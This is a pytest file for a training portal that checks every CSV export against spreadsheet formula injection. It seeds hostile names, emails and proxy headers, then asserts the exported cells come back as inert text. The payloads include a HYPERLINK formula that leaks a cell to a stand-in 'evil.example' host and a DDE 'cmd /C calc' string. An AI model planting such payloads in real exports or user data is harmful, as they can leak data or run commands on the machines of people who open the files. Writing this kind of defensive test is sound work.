"""Every CSV export is formula-safe: no cell starts with what a spreadsheet runs.

EXPORTS lists every route that answers with text/csv; the list is checked
against what the portal really serves (every GET route fetched by an admin,
and every view and command whose code writes CSV), so a new export fails here
until it is filled with hostile data below. The data goes in the way people
put it in: sign-up with a formula as name and email, admin forms posted from
behind a proxy that forwards a formula as the client address, service calls
for names, reasons and module titles. Each export is downloaded by the role
it is for and read back with Python's csv module.
"""

import csv
import inspect
import io
import re
from datetime import timedelta

import click
import pytest
from sqlalchemy import select

from portal import create_app
from portal.accounts.models import Role, User
from portal.accounts.services import create_org, create_team, grant_role
from portal.database import utcnow
from portal.enrollment import cohorts
from portal.enrollment import services as enrollment_services
from portal.enrollment.models import EnrollmentStatus as S
from portal.extensions import db
from portal.training.queries import required_modules
from tests.helpers import PASSWORD, login_as
from tests.helpers import test_config as portal_test_config
from tests.security.test_object_access import KINDS, Owned, SecretLink, World
from tests.training.conftest import sync, take_quiz, write_module

# What spreadsheets read as the start of a formula (or of a hidden one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1;"Open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)
# Payloads a client address can carry through X-Forwarded-For (no commas).
ADDRESS_PAYLOADS = ("=1+1", "-1+1", "+1+1", "@SUM(1)")
# Addresses the email validator accepts that start like a formula.
EMAIL_PAYLOADS = ("=1+1@example.com", "+1@example.com", "-1+1@example.com")

SKIPPED = {"static", "bootstrap.static"}
CSV_WRITERS = re.compile(r"text/csv|csv\.writer|csv\.DictWriter")


def _rules():
    # create_app has no side effects and never connects here: it only lists routes.
    app = create_app(portal_test_config("sqlite://"))
    return [r for r in app.url_map.iter_rules() if r.endpoint not in SKIPPED]


RULES = _rules()


# Filling the portal with hostile data.


def _sign_up(app, email, name, team):
    client = app.test_client()
    response = client.post(
        "/auth/signup",
        data={
            "email": email,
            "display_name": name,
            "team_id": str(team.id),
            "password": PASSWORD,
            "confirm": PASSWORD,
        },
    )
    assert response.status_code == 302, f"sign-up refused {email!r}"
    return db.session.scalar(select(User).where(User.email == email))


@pytest.fixture
def hostile_people(app, make_user, make_org, make_team):
    """People, teams and orgs named like formulas: three signed up through the
    form (which accepts such names and emails), the rest made directly, with
    the tab and carriage return that a form would strip."""
    people = []
    for number, payload in enumerate(PAYLOADS):
        org = make_org(name=f"{payload} org {number}")
        team = make_team(name=f"{payload} team {number}", org=org)
        if number < len(EMAIL_PAYLOADS):
            people.append(_sign_up(app, EMAIL_PAYLOADS[number], payload, team))
        else:
            people.append(make_user(name=payload, team=team))
    return people


@pytest.fixture
def hostile_admin(make_user):
    return make_user(
        email="-2+3@example.com", name="=cmd|' /C calc'!A0", roles=["admin"]
    )


@pytest.fixture
def hostile_manager(make_user):
    return make_user(name="@SUM(1+1)*cmd", roles=[Role.PROGRAM_MANAGER.value])


def _hostile_module(tmp_path):
    """A required module whose title is a formula, and its due date in a cohort."""
    root = tmp_path / "modules"
    for number, title in enumerate(('=HYPERLINK("http://evil.example")', "-1+1")):
        write_module(root, f"hostile-{number}", title=title, order=number)
    sync(root)
    return required_modules()


def _cohort_with_hostile_members(manager, people, tmp_path):
    modules = _hostile_module(tmp_path)
    start = utcnow().date() - timedelta(days=1)
    cohort = cohorts.create_cohort(
        manager,
        name="=1+1 cohort",
        start_date=start,
        capacity=len(people),
        due_dates={m.id: start for m in modules},
        now=utcnow(),
    )
    for person in people:
        enrollment = enrollment_services.apply(
            person,
            guarded_team_id=person.team_id,
            motivation="=HYPERLINK(1)",
            manager_email="-lead@example.com",
            hours_per_week=2,
            now=utcnow(),
        )
        enrollment_services.place_in_cohort(manager, enrollment, cohort, utcnow())
    db.session.commit()
    take_quiz(people[0], modules[0], utcnow(), answers="wrong")
    return cohort


def _audited_hostile_actions(app_factory, admin, manager, people):
    """Audit events whose actor, target, reasons and client address are hostile;
    returns the names they were recorded under."""
    now = utcnow()
    names = [admin.display_name, admin.email]
    for number, person in enumerate(people):
        grant_role(admin, person, Role.PROGRAM_MANAGER, now)
        name = f"{PAYLOADS[number]} new org {number}"
        org = create_org(admin, name=name, description="")
        team = create_team(admin, org_id=org.id, name=PAYLOADS[number], description="")
        names += [person.display_name, org.name, team.name]
    applicant, declined = people[:2]
    enrollment = enrollment_services.apply(
        applicant,
        guarded_team_id=applicant.team_id,
        motivation="=1+1",
        manager_email="=1+1@example.com",
        hours_per_week=2,
        now=now,
    )
    # "{target} withdrew their application": the sentence starts with a name.
    enrollment_services.transition(
        enrollment, S.WITHDRAWN, actor=applicant, now=now, reason="-1+1"
    )
    other = enrollment_services.apply(
        declined,
        guarded_team_id=declined.team_id,
        motivation="x",
        manager_email="",
        hours_per_week=2,
        now=now,
    )
    enrollment_services.decline(manager, other, "=HYPERLINK(1)", now)
    cohort = cohorts.create_cohort(
        manager,
        name="@SUM(1) cohort",
        start_date=now.date() + timedelta(days=7),
        capacity=2,
        due_dates={},
        now=now,
    )
    db.session.commit()
    _admin_forms_from_behind_a_proxy(app_factory, admin)
    return [*names, manager.display_name, cohort.name, *ADDRESS_PAYLOADS]


def _admin_forms_from_behind_a_proxy(app_factory, admin):
    """Org edits posted through a proxy that forwards a formula as the address."""
    behind_proxy = app_factory(PORTAL_PROXY_COUNT=1)
    client = behind_proxy.test_client()
    login_as(client, admin)
    for number, address in enumerate(ADDRESS_PAYLOADS):
        response = client.post(
            "/admin/orgs/new",
            data={"name": f"{address} via proxy {number}", "description": "-1"},
            headers={"X-Forwarded-For": address},
        )
        assert response.status_code == 302, "the org form refused a hostile name"


# Reading an export back.


def _cells(response):
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _formula_cells(cells):
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def _assert_shown_harmless(cells, values):
    """Each hostile value reached the export, and only as text."""
    for value in values:
        assert value in cells or f"'{value}" in cells, f"{value!r} is not exported"
    assert not _formula_cells(cells), f"cells a spreadsheet runs: {cells}"


def test_the_cohort_progress_export_is_formula_safe(
    db, signed_in, hostile_manager, hostile_people, tmp_path
):
    cohort = _cohort_with_hostile_members(hostile_manager, hostile_people, tmp_path)
    client = signed_in(hostile_manager)

    for sort in ("name", "team", "passed", "overdue"):
        path = f"/program/cohorts/{cohort.id}/progress.csv?sort={sort}"
        cells = _cells(client.get(path))
        expected = [m.current_version.title for m in required_modules()]
        for person in hostile_people:
            expected += [person.display_name, person.email, person.team.full_name]
        _assert_shown_harmless(cells, expected)


def test_the_audit_log_export_is_formula_safe(
    db, app_factory, signed_in, hostile_admin, hostile_manager, hostile_people
):
    names = _audited_hostile_actions(
        app_factory, hostile_admin, hostile_manager, hostile_people
    )
    client = signed_in(hostile_admin)

    cells = _cells(client.get("/admin/audit/export.csv"))

    _assert_shown_harmless(cells, names)
    # The sentences begin with these names, and the reasons are in the details.
    sentences = [cell for cell in cells if "withdrew their application" in cell]
    assert sentences and all(s.startswith("'") for s in sentences)
    assert any("=HYPERLINK(1)" in cell for cell in cells)


# Every export is listed.

EXPORTS = {
    "audit.export_csv": test_the_audit_log_export_is_formula_safe,
    "cohorts.progress_csv": test_the_cohort_progress_export_is_formula_safe,
}
# Commands that write CSV (none yet: `flask accounts import` only reads it).
CLI_EXPORTS = {}


def _writes_csv(function):
    return bool(CSV_WRITERS.search(inspect.getsource(inspect.unwrap(function))))


def _commands(group, prefix=""):
    for name, command in group.commands.items():
        if isinstance(command, click.Group):
            yield from _commands(command, f"{prefix}{name} ")
        else:
            yield f"{prefix}{name}", command


@pytest.fixture
def url_values(make_user, make_team, tmp_path):
    """Real values for every route's address: the object-access table's
    factories, each making its objects for a person of their own."""
    world = World(make_user, make_team, tmp_path / "modules")
    by_endpoint = {}
    for row in KINDS.values():
        if isinstance(row, Owned | SecretLink):
            made = row.make(world, make_user(team=make_team()))[0]
            by_endpoint.update(dict.fromkeys(row.routes, made))

    def values_for(rule):
        values = by_endpoint.get(rule.endpoint, {"slug": world.module.slug})
        missing = set(rule.arguments) - values.keys()
        assert not missing, f"no real object for {sorted(missing)} in {rule.rule}"
        return {argument: values[argument] for argument in rule.arguments}

    return values_for


def test_every_csv_export_is_listed(app, url_values, admin, signed_in):
    client = signed_in(admin)
    served = set()
    for rule in RULES:
        if "GET" in rule.methods:
            path = rule.build(url_values(rule), append_unknown=False)[1]
            if client.get(path).mimetype == "text/csv":
                served.add(rule.endpoint)
    written = {e for e, view in app.view_functions.items() if _writes_csv(view)}
    commands = {name for name, c in _commands(app.cli) if _writes_csv(c.callback)}

    assert served == set(EXPORTS), "list each CSV export in EXPORTS, with a test"
    assert written == set(EXPORTS), "views writing CSV that no admin could fetch"
    assert commands == set(CLI_EXPORTS), "commands writing CSV need a test here"
